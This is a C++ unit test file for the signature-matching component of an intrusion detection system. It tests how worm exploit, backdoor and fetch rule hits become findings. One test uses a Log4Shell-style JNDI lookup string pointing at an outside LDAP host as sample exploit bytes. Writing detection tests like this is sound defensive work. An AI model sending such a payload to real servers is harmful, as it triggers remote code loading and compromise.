#include "detect/signatures.h"

#include <gtest/gtest.h>

#include "detect/pending.h"

namespace cordon::detect {
namespace {

using event::Side;
using evidence::Finding;
using evidence::Kind;
using evidence::Outcome;

const net::Address kAttacker = net::Address::v4(0xcb007107), kVictim = net::Address::v4(0x0a140001);

strain::Catalogue catalogue() {
  strain::Strain worm;
  worm.id = "worm.a";
  worm.signatures = {{strain::Stage::attempt, 1, ""},        {strain::Stage::accepted, 2, ""},
                     {strain::Stage::backdoor_asked, 3, ""}, {strain::Stage::backdoor_open, 4, ""},
                     {strain::Stage::fetched, 5, ""},        {strain::Stage::refused, 6, ""}};
  worm.answers.accepted_status = {200};
  worm.answers.refused_status = {404};
  worm.answers.silence = strain::Reading::accepted;
  worm.answers.reset = strain::Reading::refused;
  return strain::Catalogue({worm});
}

struct SignaturesTest : testing::Test {
  SignaturesTest() {
    flow.client = {kAttacker, 40000};
    flow.server = {kVictim, 80};
    flow.protocol = net::Protocol::tcp;
    flow.sent[0].packets = flow.sent[1].packets = 3;
  }
  void hit(std::uint32_t sid, Side from, int second, event::HttpExchange* exchange = nullptr,
           std::string_view bytes = "GET /x") {
    rules::RuleInfo rule;
    rule.sid = sid;
    rule.message = "rule " + std::to_string(sid);
    const event::Moment at{Time(std::chrono::seconds(second)), static_cast<std::uint64_t>(second)};
    signatures.hit({rule, flow, from, at, exchange, "payload", bytes_of(bytes)});
  }
  void close() { signatures.see(event::FlowClosed{flow, {}, event::FlowClosed::Why::finished}); }
  const std::vector<Finding>& found() { return book.findings(); }

  strain::Catalogue strains = catalogue();
  evidence::Book book;
  Signatures signatures{strains, book};
  event::Flow flow;
};

TEST_F(SignaturesTest, AnExploitWaitsForTheRuleThatTellsItsAnswer) {
  hit(1, Side::client, 10);
  EXPECT_TRUE(found().empty());
  hit(2, Side::server, 11);
  ASSERT_EQ(found().size(), 1u);
  EXPECT_EQ(found()[0].outcome, Outcome::accepted);
  EXPECT_TRUE(found()[0].answered_by_rule);
  EXPECT_EQ(found()[0].actor, kAttacker);
  EXPECT_EQ(found()[0].time, Time(10s));  // of the act, not of the answer
  EXPECT_EQ(found()[0].origins.size(), 2u);
  close();
  EXPECT_EQ(found().size(), 1u);
}

TEST_F(SignaturesTest, SilenceAndResetAreReadAsTheStrainSays) {
  hit(1, Side::client, 10);
  close();
  EXPECT_EQ(found()[0].outcome, Outcome::accepted);
  flow.reset_by_server = true;
  hit(1, Side::client, 20);
  close();
  EXPECT_EQ(found()[1].outcome, Outcome::refused);
}

TEST_F(SignaturesTest, WhoNeverAnsweredAPacketWasNotReached) {
  flow.sent[1].packets = 0;
  hit(1, Side::client, 10);
  close();
  EXPECT_EQ(found()[0].outcome, Outcome::unknown);
  EXPECT_LT(found()[0].chance, 0.01);
}

TEST_F(SignaturesTest, AnHttpStatusDecidesForItsOwnRequest) {
  event::HttpExchange first, second;
  hit(1, Side::client, 10, &first);
  hit(1, Side::client, 11, &second);
  event::HttpResponse response;
  response.status = 404;
  signatures.see(event::HttpResponseSeen{flow, {}, first, response});
  ASSERT_EQ(found().size(), 1u);
  EXPECT_EQ(found()[0].outcome, Outcome::refused);
  signatures.see(event::HttpUnanswered{flow, {}, second});
  ASSERT_EQ(found().size(), 2u);
  EXPECT_EQ(found()[1].outcome, Outcome::accepted);
}

TEST_F(SignaturesTest, TheSameExploitAgainInAFlowIsOne) {
  for (int i = 0; i < 100; ++i) hit(1, Side::client, 10 + i);
  close();
  EXPECT_EQ(found().size(), 1u);
  EXPECT_LE(found()[0].origins.size(), kMostPending);
}

TEST_F(SignaturesTest, ABackDoorThatAnswersUnaskedIsOpenAllTheSame) {
  hit(4, Side::server, 10);
  ASSERT_EQ(found().size(), 1u);
  EXPECT_EQ(found()[0].kind, Kind::backdoor_asked);
  EXPECT_EQ(found()[0].target, kVictim);
  EXPECT_EQ(found()[0].outcome, Outcome::accepted);
}

TEST_F(SignaturesTest, WhoFetchesIsTheActor) {
  hit(5, Side::client, 10);
  ASSERT_EQ(found().size(), 1u);
  EXPECT_EQ(found()[0].kind, Kind::fetched);
  EXPECT_EQ(found()[0].actor, kAttacker);
}

TEST_F(SignaturesTest, ARuleOfNoStrainIsNamedByItsNumber) {
  hit(99, Side::client, 10);
  close();
  ASSERT_EQ(found().size(), 1u);
  EXPECT_EQ(found()[0].strain, "rule.99");
}

TEST_F(SignaturesTest, AddressesInTheExploitAreKept) {
  hit(1, Side::client, 10, nullptr, "${jndi:ldap://45.58.177.50:1389/x}");
  close();
  ASSERT_EQ(found()[0].named.size(), 1u);
  EXPECT_EQ(found()[0].named[0].text(), "45.58.177.50:1389");
}

}  // namespace
}  // namespace cordon::detect
